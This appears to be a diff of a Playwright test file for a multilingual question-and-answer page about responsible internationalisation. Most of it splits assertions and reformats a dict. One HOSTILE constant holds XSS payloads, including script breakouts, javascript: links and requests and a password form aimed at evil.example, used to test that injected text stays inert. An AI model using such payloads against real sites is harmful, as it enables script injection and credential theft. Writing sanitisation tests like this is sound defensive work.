@@ -24,7 +24,11 @@ ACCEPTANCE = {
         ("How is responsible internationalisation followed up?", "Recommendation 6, p. 4 (9)"),
     ],
 }
-SWEDISH = {"Rekommendation 1 b": "utser en kontaktperson", "stycke 2": "exportövervakningen av försvarsmateriel", "Rekommendation 6": "följs upp"}
+SWEDISH = {
+    "Rekommendation 1 b": "utser en kontaktperson",
+    "stycke 2": "exportövervakningen av försvarsmateriel",
+    "Rekommendation 6": "följs upp",
+}
 HOSTILE = (
     "Who is the contact person? <img src=x onerror=alert(1)> ![](http://evil.example/q.png) ${alert(2)} </script><script>alert(3)</script> [x](javascript:alert(4)) "
     "<style>*{background:url(http://evil.example/s)}</style> <form action=http://evil.example><input type=password></form> $$\\href{javascript:alert(5)}{x}$$"
@@ -109,7 +113,8 @@ def test_a_switch_gives_the_answer_again(open_page):
     opened.switch("fi")
     page = opened.page
     page.wait_for_selector("#ri-card .ri-turn[lang=fi]")
-    assert "Suositus 1 b, s. 3 (9)" in page.inner_text("#ri-sources") and "Kopioi lähteineen" in page.inner_text("#ri-card")
+    assert "Suositus 1 b, s. 3 (9)" in page.inner_text("#ri-sources")
+    assert "Kopioi lähteineen" in page.inner_text("#ri-card")
     assert page.inner_text("#ri-tabs [role=tab] >> nth=0") == "Lähteet (1)"
     opened.ask("entä virastot?")
     assert page.get_attribute("#ri-card .ri-turn", "lang") == "fi"
@@ -129,7 +134,8 @@ def test_the_notice_is_seen_at_once_in_each_language(open_page):
 def test_hostile_text_stays_text(open_page, tmp_path):
     own = tmp_path / "own<b> rules.md"
     own.write_text(
-        f"# Partners\n\n1. New partners are approved by the Quorum of Seven. {HOSTILE}\n\n2. {HOSTILE}\n\n3. The Quorum of Seven meets every month.\n", encoding="utf-8"
+        f"# Partners\n\n1. New partners are approved by the Quorum of Seven. {HOSTILE}\n\n2. {HOSTILE}\n\n3. The Quorum of Seven meets every month.\n",
+        encoding="utf-8",
     )
     opened = open_page("?lang=en")
     page = opened.page
@@ -164,7 +170,8 @@ def test_a_link_fills_in_and_does_not_send(open_page):
     assert "q=" not in page.url, "the question leaves the address"
     assert page.evaluate("document.documentElement.lang") == "fi"
     long = open_page("?lang=sv&q=" + "x" * 2500)
-    assert long.page.input_value("#question textarea") == "" and "för lång" in long.page.inner_text("#ri-problem")
+    assert long.page.input_value("#question textarea") == ""
+    assert "för lång" in long.page.inner_text("#ri-problem")
 
 
 def test_downloads_and_copies_contain_the_sources(open_page):
@@ -175,16 +182,21 @@ def test_downloads_and_copies_contain_the_sources(open_page):
         page.click("#ri-card a[href$='.md']")
     text = open(given.value.path(), encoding="utf-8").read()
     assert given.value.suggested_filename == "answer.md"
-    assert "Varje organisation inom förvaltningsområdet" in text and "Recommendation 1" in text and "not legal advice" in text
+    assert "Varje organisation inom förvaltningsområdet" in text
+    assert "Recommendation 1" in text
+    assert "not legal advice" in text
     with page.expect_download() as given:
         page.click("#ri-card a[href$='.json']")
     record = json.load(open(given.value.path(), encoding="utf-8"))
-    assert record["citations"][0]["official_language"] == "sv" and record["schema_version"] == "1"
+    assert record["citations"][0]["official_language"] == "sv"
+    assert record["schema_version"] == "1"
     opened.context.grant_permissions(["clipboard-read", "clipboard-write"])
     page.click("#ri-card .ri-copy")
     page.wait_for_selector("#ri-card .ri-copied:visible")
     copied = page.evaluate("navigator.clipboard.readText()")
-    assert copied.startswith("Who is to be appointed contact person?") and "Varje organisation" in copied and "\\(" not in copied
+    assert copied.startswith("Who is to be appointed contact person?")
+    assert "Varje organisation" in copied
+    assert "\\(" not in copied
     page.click(".ri-source .ri-copy-words")
     page.wait_for_selector(".ri-source .ri-copied:visible")
     assert "Recommendation 1(b), p. 3 (9)" in page.evaluate("navigator.clipboard.readText()")
@@ -279,7 +291,8 @@ def test_dark_follows_the_system(open_page):
 def test_the_profile_is_seen(open_page):
     opened = open_page("?lang=sv")
     page = opened.page
-    assert page.inner_text(".ri-org") == "Exempelhögskolan" and page.title() == "Ansvarsfull internationalisering – Exempelhögskolan"
+    assert page.inner_text(".ri-org") == "Exempelhögskolan"
+    assert page.title() == "Ansvarsfull internationalisering – Exempelhögskolan"
     accent = page.evaluate("getComputedStyle(document.querySelector('#ri-ask')).backgroundColor")
     assert accent == "rgb(122, 31, 92)"
     page.get_by_text("Om sidan").click()
